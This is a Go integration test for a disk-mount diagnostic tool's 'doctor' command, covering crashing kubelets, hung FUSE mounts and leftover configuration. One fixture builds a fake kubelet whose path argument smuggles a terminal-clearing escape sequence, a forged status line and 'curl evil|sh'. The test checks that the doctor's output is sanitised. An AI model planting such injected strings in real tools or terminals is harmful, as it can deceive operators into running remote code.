//go:build vm && (long || full)

package system

import (
	"slices"
	"strings"
	"testing"

	"hotmount/internal/doctor"
	"hotmount/test/worker"
)

// TestDoctorSystem: a leftover rule, a kubelet that dies all the time, a pod that
// calls itself kubelet to write on root's terminal, and one that calls itself
// provisioner on a filesystem that never answers.
func TestDoctorSystem(t *testing.T) {
	m, w := start(t, worker.Options{})
	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20)})
	m.mounted(name)
	m.run(standIns + `(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
		started host kubelet
		mkdir -p /opt/evil; cp /usr/bin/bash /opt/evil/kubelet; dir=$(printf '/opt/evil/\033[2J\nnothing found\n  curl evil|sh'); mkdir -p "$dir"
		(echo $BASHPID >/run/evil.pid; exec unshare -Urm /opt/evil/kubelet -c 'sleep infinity; :' "--root-dir=$dir") </dev/null >/run/evil.log 2>&1 &
		started evil kubelet; grep -q '^CapEff:.*ffff' /proc/$(cat /run/evil.pid)/status`)
	if r, code := m.examined(); code != "0" || !strings.Contains(words(r), "is not taken for one (1 such)") {
		t.Errorf("exit code %s\n%s", code, words(r))
	}
	if out := m.run("hotmount doctor"); strings.ContainsAny(out, "\x1b") || strings.Contains(out, "curl") {
		t.Errorf("a pod writes on the terminal: %q", out)
	}
	m.run("kill $(cat /run/evil.pid)")
	m.run(standIns + `systemd-run -q --unit=restarts bash -c 'while :; do unshare -m --propagation private timeout 0.3 kubelet infinity; done'`)
	for range 5 {
		r, _ := m.examined()
		for _, f := range r.Findings {
			if f.Kind == doctor.Blind {
				t.Errorf("a kubelet that exits meanwhile: %s", f.What)
			}
		}
	}
	m.run("systemctl stop restarts")
	if r, code := m.examined(); code != "0" {
		t.Errorf("after the kubelet that dies: exit code %s\n%s", code, words(r))
	}
	// 30 disks, each of which hangs.
	m.run(standIns + `modprobe fuse
		for i in $(seq 10 39); do mkdir /mnt/disks/x$i; mount -t tmpfs -o size=64k none /mnt/disks/x$i; done
		(echo $BASHPID >/run/hang.pid; exec unshare -m bash -ec 'exec 7<>/dev/fuse; mount -i -t fuse -o fd=7,rootmode=40000,user_id=0,group_id=0 none /mnt; exec local-provision infinity') </dev/null >/run/hang.log 2>&1 &
		started hang local-provision`)
	r, code := m.examined()
	if got := kinds(r, m.pid("hang")); !slices.Equal(got, []string{"not-seen"}) || code != "3" {
		t.Errorf("a provisioner that hangs: exit code %s, %q\n%s", code, got, words(r))
	}
	if i := slices.IndexFunc(r.Seen, func(s doctor.Seen) bool { return s.Process.PID == m.pid("host") }); i < 0 || len(r.Seen[i].Mounts) != 31 || r.Seen[i].Mounts[30].Sees != "same" {
		t.Errorf("beside a provisioner that hangs the kubelet is not seen: %+v", r.Seen)
	}
	m.run("kill $(cat /run/hang.pid); umount /mnt/disks/x*; rmdir /mnt/disks/x*")
	m.run(`systemctl stop hotmount; printf 'ACTION=="add", RUN+="/usr/bin/systemd-mount --no-block /dev/%%k /mnt/%%k"\n' >/etc/udev/rules.d/99-old.rules
		mv /usr/sbin/mkfs.xfs /usr/sbin/mkfs.xfs.away; ln -sf /lib/systemd/system/fstrim.timer /etc/systemd/system/timers.target.wants/fstrim.timer; mkfifo /mnt/disks/pipe`)
	r, code = m.examined()
	var got []string
	for _, f := range r.Findings {
		got = append(got, string(f.Kind))
	}
	slices.Sort(got)
	if want := []string{"fstrim", "missing-helper", "not-a-mount", "udev-rule"}; !slices.Equal(got, want) || code != "3" {
		t.Errorf("found %q, exit code %s, want %q", got, code, want)
	}
	t.Log(words(r))
}
